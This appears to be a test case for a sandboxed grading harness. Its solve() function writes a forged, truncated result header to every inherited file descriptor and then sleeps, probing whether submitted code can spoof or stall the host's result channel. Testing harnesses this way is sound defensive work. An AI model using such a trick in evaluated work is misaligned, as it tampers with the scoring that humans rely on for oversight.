# claim: a completion cannot send half a result and wait
# profile: function
# win: host
# control_safe: false
# expect: timeout,error,limit
import os
import struct
import time


def solve(target):
    for number in range(3, 256):
        try:
            os.write(number, struct.pack(">I", 100) + b'{"outputs": [')
        except OSError:
            continue
    time.sleep(600)
